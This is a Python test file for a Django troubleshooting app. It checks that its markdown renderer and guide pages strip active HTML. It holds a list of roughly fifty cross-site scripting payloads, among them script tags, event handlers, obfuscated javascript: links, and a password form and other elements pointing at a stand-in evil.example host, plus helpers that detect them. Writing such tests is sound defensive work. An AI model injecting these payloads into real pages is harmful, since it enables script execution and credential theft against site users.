"""Markdown of guides and replies that tries to be more than text: nothing active comes out of it."""

from __future__ import annotations

import re
from dataclasses import replace
from html import unescape
from html.parser import HTMLParser

import pytest
from django.contrib.auth.models import User
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from tests.factories import a_guide, a_question, a_step, is_, published
from tests.sessions.person import Person
from troubleshoot.rendering import _TAGS, markdown
from troubleshoot.templatetags.wizard import in_new_tabs

HOSTILE_MARKDOWN = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=x></object><embed src=x>",
    "<div style='background:url(https://evil.example/)'>x</div>",
    "<p id=main class=card name=body>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](http://plain.example)",
    "[x](//evil.example)",
    "[x](https://a.example 'title\" onmouseover=alert(1)')",
    '[x](https://a.example"onmouseover=alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    '```"><script>\n</code></pre><script>alert(1)</script>\n```',
    "```html onload=alert(1)\n<img src=x onerror=alert(1)>\n```",
    "~~~<script>\nx\n~~~",
    "`</code><script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "1. <svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<a <!-- --> href=javascript:alert(1)>x",
]


class Html(HTMLParser):
    """Every element and attribute that a browser would make of it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.made: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.made.append((tag, {name: value or "" for name, value in attrs}))


ALLOWED = {
    "a": {"href", "rel", "target"},
    "div": {"class", "lang"},
    "button": {"type", "class", "data-copy"},
    "pre": {"tabindex", "role", "aria-label"},
    "ol": {"start"},
}


def faults_in(html: str) -> list[str]:
    """What is active in a piece of HTML, or would ask another site for something."""
    found = []
    for tag, attributes in Html(html).made:
        if tag not in _TAGS:
            found.append(tag)
        allowed = {"lang", "title"} | ALLOWED.get(tag, set())
        found += [f"{tag} {name}" for name in attributes if name not in allowed]
        if re.match(r"(?!https:|mailto:)[^/?#]*:", unescape(attributes.get("href", "")), re.IGNORECASE):
            found.append(attributes["href"])
        if tag == "button" and attributes.get("type") != "button":
            found.append("a button that sends")
    return found


@pytest.mark.parametrize("number", range(len(HOSTILE_MARKDOWN)))
def test_markdown_makes_nothing_but_text_lists_tables_and_links(number: int) -> None:
    for made in (markdown(HOSTILE_MARKDOWN[number]), in_new_tabs(markdown(HOSTILE_MARKDOWN[number]))):
        assert faults_in(made) == []


PARTS = [*HOSTILE_MARKDOWN, "`", "```", "\n", "](", "<", ">", '"', "&", "x"]


@given(st.lists(st.sampled_from(PARTS), max_size=6))
def test_no_mixture_of_it_makes_anything_else(parts: list[str]) -> None:
    assert faults_in(markdown("".join(parts))) == []


def is_hostile(name: str, value: str) -> bool:
    """True for an attribute that runs something, or asks another site before anybody follows a link."""
    link = re.match(r"\s*javascript:", value, re.IGNORECASE) is not None
    return name.startswith("on") or name == "style" or link or (name != "href" and "evil.example" in value)


@pytest.mark.django_db
def test_no_field_of_a_guide_makes_anything_active() -> None:
    hostile = "\n\n".join(HOSTILE_MARKDOWN)
    texts = ("applies_when", "background", "expect", "prevention", "diagnostics", "support", "retry_text")
    step = a_step("cable", is_("where", "here"), body=hostile, ask=hostile, risk=hostile, put_back=hostile)
    question = replace(a_question("where", "here", "there"), help=hostile)
    guide = a_guide(
        **dict.fromkeys(texts, hostile),
        steps=(step, a_step("vpn")),
        questions=(question,),
        never=(hostile,),
        safe_to_wait=hostile,
    )
    published(guide)
    person, client = Person.starting(guide), Client()
    client.force_login(User.objects.create_user("ann", is_staff=True))
    pages = ["/guides/cut-line/", f"/sessions/{person.token}/questions/", "/respond/?guide=cut-line"]
    person.answer({"where": "here"})
    pages += [f"/sessions/{person.token}/rounds/1/", f"/sessions/{person.token}/hand-over/"]
    pages += [f"/sessions/{person.token}/hand-over/check/"]
    for page in pages:
        answer = client.get(page, follow=True)
        assert answer.status_code == 200, page
        made = Html(answer.content.decode()).made
        assert not [
            (tag, name)
            for tag, attributes in made
            for name, value in attributes.items()
            if is_hostile(name, value)
        ], page
        assert {tag for tag, _ in made}.isdisjoint({"iframe", "object", "embed", "base", "math", "template"})
